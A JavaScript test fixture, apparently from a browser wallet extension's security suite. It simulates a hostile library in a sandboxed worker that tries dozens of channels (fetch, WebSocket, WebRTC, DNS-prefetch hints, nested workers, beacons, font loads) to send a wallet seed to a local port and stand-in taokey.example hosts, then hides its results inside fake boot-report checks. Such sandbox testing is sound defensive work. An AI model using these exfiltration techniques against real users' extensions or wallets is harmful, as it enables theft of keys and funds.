// A hostile library inside the room's worker. Asked to sign, it tries every way to a network that a worker or a document
// has or might be given, and reports what came of each as the checks of a boot report, which the page passes on. The port of the
// listening server is what it is asked to sign; the extension's own policy allows sockets to it.
{
  const secret = 'seed-of-the-wallet'
  let port = 0
  const at = (way) => `127.0.0.1:${port}/${way}-${secret}`
  const within = (promise, ms = 6000) =>
    Promise.race([promise, new Promise((done) => setTimeout(done, ms, 'silence'))])
  const post = self.postMessage.bind(self)

  const ways = {
    fetch: () => fetch(`http://${at('fetch')}`, { mode: 'no-cors' }),
    'fetch a name': () => fetch(`http://${secret}-${port}.taokey.example/`, { mode: 'no-cors' }),
    'fetch to keep alive': () =>
      fetch(`http://${at('alive')}`, { mode: 'no-cors', method: 'POST', body: secret, keepalive: true }),
    'fetch our own file': () => fetch('/manifest.json'),
    request: () =>
      new Promise((done, refuse) => {
        const request = new XMLHttpRequest()
        request.onload = done
        request.onerror = refuse
        request.open('GET', `http://${at('request')}`)
        request.send()
      }),
    socket: () => opened(new WebSocket(`ws://${at('socket')}`)),
    'socket to a node': () => opened(new WebSocket('wss://entrypoint-finney.opentensor.ai')),
    'socket stream': () => new WebSocketStream(`ws://${at('stream')}`).opened,
    'event source': () => opened(new EventSource(`http://${at('events')}`)),
    transport: () => new WebTransport(`https://${at('transport')}`).ready,
    'import scripts': () => importScripts(`http://${at('scripts')}`),
    'import scripts of ours': () => importScripts('/worker.js'),
    import: () => import(`http://${at('import')}`),
    'nested worker': () =>
      nested(
        `fetch('http://${at('nested')}', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage('refused'))`,
      ),
    'nested file worker': () => alive(new Worker('/worker.js')),
    'nested module worker': () =>
      nested(
        `import('http://${at('module')}').then(() => postMessage('sent'), () => postMessage('refused'))`,
        { type: 'module' },
      ),
    'shared worker': () => new SharedWorker('/worker.js'),
    cache: async () => (await caches.open('x')).add(`http://${at('cache')}`),
    database: () =>
      new Promise((done, refuse) => {
        const request = indexedDB.open('x')
        request.onsuccess = done
        request.onerror = refuse
      }),
    'data channel': () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
      peer.createDataChannel(secret)
      return peer.setLocalDescription()
    },
    'data channel under its old name': () => new webkitRTCPeerConnection({}).createDataChannel(secret),
    'hint to look a name up': () => hint('dns-prefetch', `//hint-${secret}-${port}.taokey.example`),
    'hint to connect': () => hint('preconnect', `http://connect-${secret}-${port}.taokey.example`),
    'hint to fetch': () => hint('prefetch', `http://${at('prefetch')}`),
    'hint of a module': () => hint('modulepreload', `http://${at('preload')}`),
    beacon: () => (navigator.sendBeacon(`http://${at('beacon')}`) ? 'sent' : refuse()),
    notification: () =>
      new Promise((done, failed) => {
        const shown = new Notification('x', { icon: `http://${at('icon')}` })
        shown.onshow = done
        shown.onerror = () => failed(new Error('refused'))
      }),
    'service worker': () => navigator.serviceWorker.register('/worker.js'),
    storage: () => navigator.storage.getDirectory(),
    'lower than a browser': () => new TCPSocket('127.0.0.1', port).opened,
    'font face': async () => {
      const face = new FontFace('x', `url(http://${at('font')})`)
      await face.load()
    },
    image: async () =>
      createImageBitmap(await (await fetch(`http://${at('image')}`, { mode: 'no-cors' })).blob()),
    // biome-ignore lint/security/noGlobalEval: this is what hostile code does
    eval: () => globalThis.eval('1'),
    'extension interface': () => chrome.runtime.sendMessage(secret),
    'the other extension interface': () => browser.runtime.sendMessage(secret),
    locks: () => navigator.locks.request(secret, () => 'held'),
  }

  function refuse() {
    throw new Error('refused')
  }
  function hint(rel, href) {
    document.head.append(Object.assign(document.createElement('link'), { rel, href }))
  }
  function opened(source) {
    return new Promise((done, failed) => {
      source.onopen = () => done('open')
      source.onerror = () => failed(new Error('refused'))
    })
  }
  function alive(worker) {
    return new Promise((done, failed) => {
      worker.onmessage = ({ data }) => (data === 'refused' ? failed(new Error('refused')) : done(data))
      worker.onerror = () => failed(new Error('refused'))
    })
  }
  function nested(code, options) {
    return alive(new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), options))
  }

  const tryAll = async () => {
    const outcomes = []
    for (const [way, work] of Object.entries(ways)) {
      let outcome
      try {
        outcome = (await within((async () => work())())) === 'silence' ? 'silence' : 'went through'
      } catch (error) {
        outcome = `refused by ${error?.name ?? 'an event'}`
      }
      outcomes.push(`${way}: ${outcome}`)
    }
    return outcomes
  }

  addEventListener('message', ({ data }) => {
    if (data?.kind !== 'command' || data.command?.name !== 'room.sign') return
    port = Number(data.command.input.payload)
    void tryAll().then((outcomes) => {
      outcomes.push('end')
      // A report has room for 32 checks: several of them.
      for (let from = 0; from < outcomes.length; from += 16)
        post({
          kind: 'ready',
          boot: {
            id: String(from).padStart(32, '0'),
            ok: true,
            checks: outcomes.slice(from, from + 16).map((name) => ({ name, ok: true })),
          },
        })
    })
  })
}
